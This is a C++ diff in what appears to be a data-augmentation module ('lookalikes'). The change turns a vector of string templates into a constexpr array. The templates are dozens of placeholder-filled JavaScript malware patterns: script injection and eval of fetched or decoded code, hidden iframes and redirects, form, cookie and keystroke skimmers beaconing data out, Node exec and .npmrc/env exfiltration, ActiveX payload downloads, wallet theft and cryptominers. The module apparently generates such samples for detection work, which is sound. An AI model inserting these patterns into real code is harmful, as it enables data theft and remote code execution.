@@ -1,5 +1,4 @@
 #include <cstdio>
-#include <vector>
 
 #include "fovea/augment/snippets/code_template.h"
 #include "fovea/augment/snippets/lookalikes.h"
@@ -118,133 +117,130 @@ const Makers& ScriptMakers() {
   return makers;
 }
 
-const std::vector<const char*>& Patterns() {
-  static const std::vector<const char*> patterns = {
-      // Another script.
-      "var ~0~=document.createElement('script');~0~.src=~hidden~;~into~",
-      "(function(){var "
-      "~0~=document.createElement('script');~0~.type='text/javascript';~0~.async=true;"
-      "~0~.src=~hidden~;~into~})();",
-      "var ~0~=document.createElement(\"~esc~\");~0~[\"~esc~\"]=~hidden~;~into~",
-      "document.write('<script src=\"~url.js~\"></scr'+'ipt>');",
-      "document.write(unescape('%3Cscript src=\"~url.js~\"%3E%3C/script%3E'));",
-      "document.write(~enc~);", "document.write(unescape('~pct~'));", "$.getScript(~hidden~);",
-      "jQuery.getScript('~url.js~');", "fetch(~hidden~).then(r=>r.text()).then(t=>eval(t));",
-      "fetch(~hidden~).then(function(~0~){return ~0~.text()}).then(function(~1~){(new "
-      "Function(~1~))()});",
-      "var ~0~=new "
-      "XMLHttpRequest();~0~.open('GET',~hidden~,false);~0~.send();eval(~0~.responseText);",
-      "import(~hidden~);",
-      "var ~0~=new WebSocket('wss://~host~:~port~');~0~.onmessage=function(~1~){"
-      "eval(~1~.data)};",
-      "if(document.cookie.indexOf('~key0~=')==-1){document.cookie='~key0~=1;path=/';var "
-      "~0~=document."
-      "createElement('script');~0~.src=~hidden~;~into~}",
-      "if(!/bot|crawl/i.test(navigator.userAgent)){var "
-      "~0~=document.createElement('script');~0~.src="
-      "~hidden~;~into~}",
-      // Decoded code.
-      "eval(~enc~);", "eval(~enc~);", "window['eval'](~enc~);", "window[\"~esc~\"](~enc~);",
-      "(0,eval)(~enc~);", "new Function(~enc~)();", "(new Function(atob('~b64~')))();",
-      "Function('return this')()['eval'](~enc~);", "setTimeout(~enc~,~num~);",
-      "[]['constructor']['constructor'](~enc~)();", "~array~", "~array~", "~array~", "~signs~",
-      "var ~0~='~b64~',~1~='';for(var "
-      "~2~=0;~2~<~0~.length;~2~++){~1~+=String.fromCharCode(~0~.charCodeAt("
-      "~2~)^~small~);}eval(~1~);",
-      "var ~0~=[~codes~];var ~1~='';for(~2~ in "
-      "~0~){~1~+=String.fromCharCode(~0~[~2~]-~small~);}eval(~1~);",
-      "var "
-      "~0~='~letters~'+'~letters~'+'~letters~',~1~=this['~letters~'];~1~[~0~](unescape('~pct~'));",
-      "function ~0~(~1~){var ~2~='';for(var ~3~=0;~3~<~1~.length;~3~+=2)~2~+=String.fromCharCode("
-      "parseInt(~1~.substr(~3~,2),16));return ~2~}eval(~0~('~hex~'));",
-      // Frames and redirections.
-      "var "
-      "~0~=document.createElement('iframe');~0~.src=~hidden~;~0~.style.display='none';~0~.width=1;"
-      "~0~.height=1;document.body.appendChild(~0~);",
-      "document.write('<iframe src=\"~url~\" width=1 height=1 "
-      "style=\"visibility:hidden\"></iframe>');",
-      "window.location.href=~hidden~;", "window.location.replace(~hidden~);",
-      "top.location=~hidden~;", "setTimeout(function(){window.location=~hidden~},~num~);",
-      "if(document.referrer.indexOf('~word~')>0){location.href=~hidden~;}",
-      "document.addEventListener('click',function(){window.open(~hidden~)},{once:true});",
-      "if(/android|iphone/"
-      "i.test(navigator.userAgent)&&!localStorage['~key0~']){localStorage['~key0~']=1;"
-      "location.assign(~hidden~);}",
-      // Forms.
-      "var ~0~={};[].forEach.call(~fields~,function(~1~){~0~[~1~.name]=~1~.value});(new "
-      "Image()).src="
-      "~hidden~+'?~key~='+btoa(JSON.stringify(~0~));",
-      "setInterval(function(){var ~0~='';var ~1~=~fields~;for(var "
-      "~2~=0;~2~<~1~.length;~2~++){if(~1~[~2~]"
-      ".value.length>0)~0~+=~1~[~2~].name+'='+~1~[~2~].value+'&';}if(~0~){var ~3~=new "
-      "Image();~3~.src="
-      "~hidden~+'?~key~='+encodeURIComponent(btoa(~0~));}},~num~);",
-      "if(location.href.indexOf('~where~')!=-1){document.addEventListener('submit',function(~0~){"
-      "navigator.sendBeacon(~hidden~,JSON.stringify(Array.from(new FormData(~0~.target))))});}",
-      "if(/~where~/.test(window.location)){jQuery(document).on('click','button',function(){var ~0~="
-      "jQuery('form').serialize();jQuery.post(~hidden~,{~key~:btoa(~0~)});});}",
-      "document.onkeypress=function(~0~){~1~+=String.fromCharCode(~0~.which);if(~1~.length>~small~)"
-      "{"
-      "new Image().src=~hidden~+~1~;~1~='';}};",
-      "new Image().src=~hidden~+'?c='+escape(document.cookie);",
-      "fetch(~hidden~,{method:'POST',mode:'no-cors',body:document.cookie+localStorage.getItem('~"
-      "key~')});",
-      // Packages.
-      "require('child_process').exec('~cmd~');",
-      "const {exec}=require('child_process');exec('~cmd~',()=>{});",
-      "require('child_process').execSync('~cmd~',{stdio:'ignore'});",
-      "const "
-      "~0~=require('child_process');~0~.spawn('sh',['-c','~cmd~'],{detached:true,stdio:'ignore'})."
-      "unref();",
-      "const ~0~=require('https');~0~.get(~hidden~,~1~=>{let ~2~='';~1~.on('data',~3~=>~2~+=~3~);"
-      "~1~.on('end',()=>eval(~2~))});",
-      "const os=require('os'),https=require('https');const "
-      "~0~=JSON.stringify({h:os.hostname(),u:os."
-      "userInfo().username,d:__dirname,e:process.env});const "
-      "~1~=https.request({hostname:'~host~',port:443,"
-      "path:'/~word~',method:'POST'});~1~.write(~0~);~1~.end();",
-      "require('dns').lookup(require('os').hostname()+'.~letters~.~host~',function(){});",
-      "const fs=require('fs'),p=require('path'),os=require('os');const "
-      "~0~=p.join(os.homedir(),'.~word~');"
-      "fs.writeFileSync(~0~,~enc~);require('child_process').fork(~0~);",
-      "const "
-      "~0~=fs.readFileSync(os.homedir()+'/"
-      ".npmrc','utf8');fetch(~hidden~,{method:'POST',body:~0~});",
-      "process.env.~letters~||require('vm').runInThisContext(~enc~);",
-      "global['_V']='~small~';global['r']=require;(function(){var ~0~='',~1~=~num~-~num~;function "
-      "~2~(~3~){"
-      "var ~4~=~num~;return ~3~.split('').map(function(~5~,~6~){return "
-      "~3~.charCodeAt((~6~*~4~)%~3~.length)})"
-      ".join('')}var ~7~=~2~('~long~');eval(~7~)})();",
-      "window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x~hexs~~hexs~',value:'"
-      "0x~hexs~'}]});",
-      "document.addEventListener('copy',function(~0~){~0~.clipboardData.setData('text/"
-      "plain','~long~');"
-      "~0~.preventDefault()});",
-      // Windows.
-      "var ~0~=new ActiveXObject('WScript.Shell');~0~.Run('cmd /c ~cmd~',0,false);",
-      "var ~0~=new ActiveXObject('MSXML2.XMLHTTP');~0~.open('GET',~hidden~,false);~0~.send();var "
-      "~1~=new "
-      "ActiveXObject('ADODB.Stream');~1~.Open();~1~.Type=1;~1~.Write(~0~.ResponseBody);~1~."
-      "SaveToFile("
-      "'%TEMP%\\\\~word~.exe',2);",
-      "var ~0~=WScript.CreateObject(\"~esc~\");~0~.Run(~enc~,0);",
-      "try{var ~0~=new ActiveXObject('Shell.Application');~0~.ShellExecute('powershell','-enc "
-      "~b64~','',"
-      "'open',0);}catch(e){}",
-      // Miners.
-      "var ~0~=new ~Word~.Anonymous('~long~',{throttle:0.~small~});~0~.start();",
-      "var ~0~=new Worker(URL.createObjectURL(new "
-      "Blob([~enc~])));~0~.postMessage({pool:'wss://~host~:~port~',"
-      "wallet:'~long~'});"};
-  return patterns;
-}
+constexpr const char* kPatterns[] = {
+    // Another script.
+    "var ~0~=document.createElement('script');~0~.src=~hidden~;~into~",
+    "(function(){var "
+    "~0~=document.createElement('script');~0~.type='text/javascript';~0~.async=true;"
+    "~0~.src=~hidden~;~into~})();",
+    "var ~0~=document.createElement(\"~esc~\");~0~[\"~esc~\"]=~hidden~;~into~",
+    "document.write('<script src=\"~url.js~\"></scr'+'ipt>');",
+    "document.write(unescape('%3Cscript src=\"~url.js~\"%3E%3C/script%3E'));",
+    "document.write(~enc~);", "document.write(unescape('~pct~'));", "$.getScript(~hidden~);",
+    "jQuery.getScript('~url.js~');", "fetch(~hidden~).then(r=>r.text()).then(t=>eval(t));",
+    "fetch(~hidden~).then(function(~0~){return ~0~.text()}).then(function(~1~){(new "
+    "Function(~1~))()});",
+    "var ~0~=new "
+    "XMLHttpRequest();~0~.open('GET',~hidden~,false);~0~.send();eval(~0~.responseText);",
+    "import(~hidden~);",
+    "var ~0~=new WebSocket('wss://~host~:~port~');~0~.onmessage=function(~1~){"
+    "eval(~1~.data)};",
+    "if(document.cookie.indexOf('~key0~=')==-1){document.cookie='~key0~=1;path=/';var "
+    "~0~=document."
+    "createElement('script');~0~.src=~hidden~;~into~}",
+    "if(!/bot|crawl/i.test(navigator.userAgent)){var "
+    "~0~=document.createElement('script');~0~.src="
+    "~hidden~;~into~}",
+    // Decoded code.
+    "eval(~enc~);", "eval(~enc~);", "window['eval'](~enc~);", "window[\"~esc~\"](~enc~);",
+    "(0,eval)(~enc~);", "new Function(~enc~)();", "(new Function(atob('~b64~')))();",
+    "Function('return this')()['eval'](~enc~);", "setTimeout(~enc~,~num~);",
+    "[]['constructor']['constructor'](~enc~)();", "~array~", "~array~", "~array~", "~signs~",
+    "var ~0~='~b64~',~1~='';for(var "
+    "~2~=0;~2~<~0~.length;~2~++){~1~+=String.fromCharCode(~0~.charCodeAt("
+    "~2~)^~small~);}eval(~1~);",
+    "var ~0~=[~codes~];var ~1~='';for(~2~ in "
+    "~0~){~1~+=String.fromCharCode(~0~[~2~]-~small~);}eval(~1~);",
+    "var "
+    "~0~='~letters~'+'~letters~'+'~letters~',~1~=this['~letters~'];~1~[~0~](unescape('~pct~'));",
+    "function ~0~(~1~){var ~2~='';for(var ~3~=0;~3~<~1~.length;~3~+=2)~2~+=String.fromCharCode("
+    "parseInt(~1~.substr(~3~,2),16));return ~2~}eval(~0~('~hex~'));",
+    // Frames and redirections.
+    "var "
+    "~0~=document.createElement('iframe');~0~.src=~hidden~;~0~.style.display='none';~0~.width=1;"
+    "~0~.height=1;document.body.appendChild(~0~);",
+    "document.write('<iframe src=\"~url~\" width=1 height=1 "
+    "style=\"visibility:hidden\"></iframe>');",
+    "window.location.href=~hidden~;", "window.location.replace(~hidden~);",
+    "top.location=~hidden~;", "setTimeout(function(){window.location=~hidden~},~num~);",
+    "if(document.referrer.indexOf('~word~')>0){location.href=~hidden~;}",
+    "document.addEventListener('click',function(){window.open(~hidden~)},{once:true});",
+    "if(/android|iphone/"
+    "i.test(navigator.userAgent)&&!localStorage['~key0~']){localStorage['~key0~']=1;"
+    "location.assign(~hidden~);}",
+    // Forms.
+    "var ~0~={};[].forEach.call(~fields~,function(~1~){~0~[~1~.name]=~1~.value});(new "
+    "Image()).src="
+    "~hidden~+'?~key~='+btoa(JSON.stringify(~0~));",
+    "setInterval(function(){var ~0~='';var ~1~=~fields~;for(var "
+    "~2~=0;~2~<~1~.length;~2~++){if(~1~[~2~]"
+    ".value.length>0)~0~+=~1~[~2~].name+'='+~1~[~2~].value+'&';}if(~0~){var ~3~=new "
+    "Image();~3~.src="
+    "~hidden~+'?~key~='+encodeURIComponent(btoa(~0~));}},~num~);",
+    "if(location.href.indexOf('~where~')!=-1){document.addEventListener('submit',function(~0~){"
+    "navigator.sendBeacon(~hidden~,JSON.stringify(Array.from(new FormData(~0~.target))))});}",
+    "if(/~where~/.test(window.location)){jQuery(document).on('click','button',function(){var ~0~="
+    "jQuery('form').serialize();jQuery.post(~hidden~,{~key~:btoa(~0~)});});}",
+    "document.onkeypress=function(~0~){~1~+=String.fromCharCode(~0~.which);if(~1~.length>~small~)"
+    "{"
+    "new Image().src=~hidden~+~1~;~1~='';}};",
+    "new Image().src=~hidden~+'?c='+escape(document.cookie);",
+    "fetch(~hidden~,{method:'POST',mode:'no-cors',body:document.cookie+localStorage.getItem('~"
+    "key~')});",
+    // Packages.
+    "require('child_process').exec('~cmd~');",
+    "const {exec}=require('child_process');exec('~cmd~',()=>{});",
+    "require('child_process').execSync('~cmd~',{stdio:'ignore'});",
+    "const "
+    "~0~=require('child_process');~0~.spawn('sh',['-c','~cmd~'],{detached:true,stdio:'ignore'})."
+    "unref();",
+    "const ~0~=require('https');~0~.get(~hidden~,~1~=>{let ~2~='';~1~.on('data',~3~=>~2~+=~3~);"
+    "~1~.on('end',()=>eval(~2~))});",
+    "const os=require('os'),https=require('https');const "
+    "~0~=JSON.stringify({h:os.hostname(),u:os."
+    "userInfo().username,d:__dirname,e:process.env});const "
+    "~1~=https.request({hostname:'~host~',port:443,"
+    "path:'/~word~',method:'POST'});~1~.write(~0~);~1~.end();",
+    "require('dns').lookup(require('os').hostname()+'.~letters~.~host~',function(){});",
+    "const fs=require('fs'),p=require('path'),os=require('os');const "
+    "~0~=p.join(os.homedir(),'.~word~');"
+    "fs.writeFileSync(~0~,~enc~);require('child_process').fork(~0~);",
+    "const "
+    "~0~=fs.readFileSync(os.homedir()+'/"
+    ".npmrc','utf8');fetch(~hidden~,{method:'POST',body:~0~});",
+    "process.env.~letters~||require('vm').runInThisContext(~enc~);",
+    "global['_V']='~small~';global['r']=require;(function(){var ~0~='',~1~=~num~-~num~;function "
+    "~2~(~3~){"
+    "var ~4~=~num~;return ~3~.split('').map(function(~5~,~6~){return "
+    "~3~.charCodeAt((~6~*~4~)%~3~.length)})"
+    ".join('')}var ~7~=~2~('~long~');eval(~7~)})();",
+    "window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x~hexs~~hexs~',value:'"
+    "0x~hexs~'}]});",
+    "document.addEventListener('copy',function(~0~){~0~.clipboardData.setData('text/"
+    "plain','~long~');"
+    "~0~.preventDefault()});",
+    // Windows.
+    "var ~0~=new ActiveXObject('WScript.Shell');~0~.Run('cmd /c ~cmd~',0,false);",
+    "var ~0~=new ActiveXObject('MSXML2.XMLHTTP');~0~.open('GET',~hidden~,false);~0~.send();var "
+    "~1~=new "
+    "ActiveXObject('ADODB.Stream');~1~.Open();~1~.Type=1;~1~.Write(~0~.ResponseBody);~1~."
+    "SaveToFile("
+    "'%TEMP%\\\\~word~.exe',2);",
+    "var ~0~=WScript.CreateObject(\"~esc~\");~0~.Run(~enc~,0);",
+    "try{var ~0~=new ActiveXObject('Shell.Application');~0~.ShellExecute('powershell','-enc "
+    "~b64~','',"
+    "'open',0);}catch(e){}",
+    // Miners.
+    "var ~0~=new ~Word~.Anonymous('~long~',{throttle:0.~small~});~0~.start();",
+    "var ~0~=new Worker(URL.createObjectURL(new "
+    "Blob([~enc~])));~0~.postMessage({pool:'wss://~host~:~port~',"
+    "wallet:'~long~'});"};
 
 }  // namespace
 
 std::string ScriptLookalike(Junk& junk) {
   if (junk.Chance(0.02)) return ScriptThiefLookalike(junk);
-  return FillAny(Patterns(), ScriptMakers(), junk);
+  return FillAny(kPatterns, ScriptMakers(), junk);
 }
 
 }  // namespace fovea::augment
